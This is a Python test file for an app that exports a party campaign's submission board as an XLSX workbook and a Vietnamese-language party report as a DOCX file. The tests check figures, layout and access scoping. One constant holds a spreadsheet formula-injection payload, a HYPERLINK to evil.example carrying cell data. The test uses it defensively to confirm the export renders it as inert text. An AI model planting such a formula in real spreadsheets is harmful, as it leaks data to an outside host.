"""The board's XLSX and the DOCX summary report, through HTTP."""

from __future__ import annotations

import io

import docx
import openpyxl

from quantriet.orgs.models import BulkAccessLog, Unit
from tests.reports.conftest import Reports
from tests.reports.test_boards_pages import every_state

FORMULA = '=HYPERLINK("http://evil.example/?u="&A5,"x")'


def test_the_xlsx_holds_the_board_and_whom_to_chase_as_text(reports: Reports) -> None:
    every_state(reports)
    world = reports.world
    Unit.objects.filter(pk=world.xa.pk).update(name=FORMULA)
    response = world.client_for(world.alice).get(f"/reports/campaigns/{reports.campaign.pk}/board.xlsx")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    board, chase = book.worksheets
    rows = [[c.value for c in row] for row in board.iter_rows()]
    assert rows[0][:5] == ["Đơn vị", "Phải viết", "Nộp đúng hạn", "Nộp muộn", "Chưa nộp"]
    assert rows[-1] == ["Tổng", 5, 3, 1, 1, 1, 1, 1, 1, 80]
    formula_row = next(row for row in board.iter_rows() if str(row[0].value).startswith("="))
    assert formula_row[0].value == f"{FORMULA} — Tỉnh ủy Mẫu"
    assert formula_row[0].data_type == "s"  # text, never a live formula
    names = [row[0].value for row in chase.iter_rows(min_row=2)]
    assert sorted(names) == ["Nguyễn Văn An", "Trần Thị Bình"]
    assert BulkAccessLog.objects.filter(what="reports.board.xlsx", rows=2).exists()


def test_a_reviewer_exports_only_their_subtree(reports: Reports) -> None:
    every_state(reports)
    world = reports.world
    client = world.client_for(world.bob)
    url = f"/reports/campaigns/{reports.campaign.pk}/board.xlsx"
    book = openpyxl.load_workbook(io.BytesIO(client.get(url).content))
    assert [row[0].value for row in book.worksheets[1].iter_rows(min_row=2)] == ["Nguyễn Văn An"]
    assert client.get(f"{url}?unit={world.xa2.pk}").status_code == 404


def test_the_docx_summary_is_a_party_paper_with_the_figures_and_the_table(reports: Reports) -> None:
    every_state(reports)
    world = reports.world
    url = f"/reports/campaigns/{reports.campaign.pk}/summary.docx?number=7&place=Sông Lam"
    response = world.client_for(world.alice).get(url)
    assert response.status_code == 200
    paper = docx.Document(io.BytesIO(response.content))
    section = paper.sections[0]
    assert section.page_width is not None and section.page_height is not None
    assert (round(section.page_width.mm), round(section.page_height.mm)) == (210, 297)
    heading = paper.tables[0].rows[0].cells
    assert heading[0].text.splitlines() == ["ĐẢNG BỘ TỈNH MẪU", "TỈNH ỦY", "*", "Số 7-BC/TU"]
    assert "ĐẢNG CỘNG SẢN VIỆT NAM" in heading[1].text and "Sông Lam, ngày" in heading[1].text
    text = "\n".join(p.text for p in paper.paragraphs)
    assert "BÁO CÁO" in text
    assert "Kết quả viết bài thu hoạch" in text
    assert "Nghị quyết số 35-NQ/TW, ngày 22/10/2018 của Trung ương về tăng cường" in text
    assert "Tổng số đảng viên phải viết bài thu hoạch: 5; đã nộp 4" in text
    assert "kết luận có sao chép 1" in text
    table = paper.tables[1]
    cells = [[c.text for c in row.cells] for row in table.rows]
    assert cells[1][1] == "Đảng bộ xã An Hòa — Tỉnh ủy Mẫu" and cells[1][2:6] == ["3", "1", "1", "1"]
    assert cells[-1][1:3] == ["Tổng", "5"]
    signature = paper.tables[-1].rows[0].cells
    assert "Nơi nhận:" in signature[0].text and "T/M BAN THƯỜNG VỤ" in signature[1].text
    assert section.different_first_page_header_footer
    assert "PAGE" in section.header._element.xml


def test_a_commune_reviewer_reports_on_its_own_part(reports: Reports) -> None:
    every_state(reports)
    world = reports.world
    response = world.client_for(world.charlie).get(f"/reports/campaigns/{reports.campaign.pk}/summary.docx")
    paper = docx.Document(io.BytesIO(response.content))
    heading = paper.tables[0].rows[0].cells[0].text.splitlines()
    assert heading == ["ĐẢNG BỘ TỈNH MẪU", "ĐẢNG ỦY XÃ BÌNH MINH", "*", "Số    -BC/ĐU"]
    recipients, signature = (c.text.splitlines() for c in paper.tables[-1].rows[0].cells)
    assert signature[0] == "T/M ĐẢNG ỦY"
    assert recipients[1:] == [
        "- Ban Thường vụ Tỉnh ủy Mẫu (để báo cáo),",
        "- Các chi bộ trực thuộc,",
        "- Lưu Văn phòng Đảng ủy.",
    ]
    rows = [[c.text for c in row.cells] for row in paper.tables[1].rows]
    assert [r[1] for r in rows[1:]] == ["Chi bộ thôn 3 — Đảng bộ xã Bình Minh", "Tổng"]
